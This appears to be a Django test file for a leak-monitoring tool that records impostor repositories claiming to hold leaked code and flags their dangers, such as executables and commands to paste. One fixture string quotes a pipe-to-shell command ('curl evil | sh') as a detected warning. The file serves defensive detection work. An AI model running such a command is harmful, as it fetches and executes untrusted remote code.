from django.utils import timezone

from incidents import intake
from monitors import sightings
from monitors.models import Change
from tests import factories


def changed(incident, kind, **how):
    sighting = factories.SightingFactory(watchlist=incident.watchlist, impostor=True, **how)
    return sightings.change(sighting, Change.Kind(kind), at=timezone.now())


def said(incident):
    intake.read()
    return [event.text for event in incident.events.all() if event.kind.startswith("sighting")]


def test_an_impostor_is_on_the_record_as_one_and_says_not_to_open_it(incident):
    changed(incident, "appeared", title="evil/kettle-leaked")

    assert said(incident) == [
        "Impostor: evil/kettle-leaked on code.example says it is the leak and holds none of it (impostor). "
        "Do not open it: executable (1)"
    ]
    assert incident.events.last().facts["class"] == "impostor"


def test_the_record_tells_sorts_of_danger_and_keeps_the_strangers_words_as_facts(incident):
    warnings = [
        "executable: a.exe (runs on Windows)",
        "executable: b.exe (runs on Windows)",
        "command to paste: README.md (curl evil | sh)",
    ]

    changed(incident, "appeared", warnings=warnings)

    [sentence] = said(incident)
    assert sentence.endswith("Do not open it: executable (2), command to paste (1)")
    assert incident.events.last().facts["warnings"] == warnings


def test_it_goes_and_returns_and_is_confirmed_like_any_place(incident):
    for kind in ("gone", "returned", "confirmed"):
        changed(incident, kind, title=f"a-{kind}", warnings=[])

    assert said(incident) == [
        "Gone: a-gone on code.example (gone)",
        "Returned: a-returned on code.example says it is the leak and holds none of it (impostor)",
        "Confirmed: a-confirmed on code.example, an impostor that holds none of the leak",
    ]


def test_many_at_once_are_one_line(incident):
    at = timezone.now()
    for n in range(intake.MANY):
        sighting = factories.SightingFactory(watchlist=incident.watchlist, impostor=True, title=f"bait-{n}")
        sightings.change(sighting, Change.Kind.APPEARED, at=at)

    assert said(incident) == [
        "Impostors: 10 places on code.example say they are the leak and hold none of it, such as bait-0"
    ]
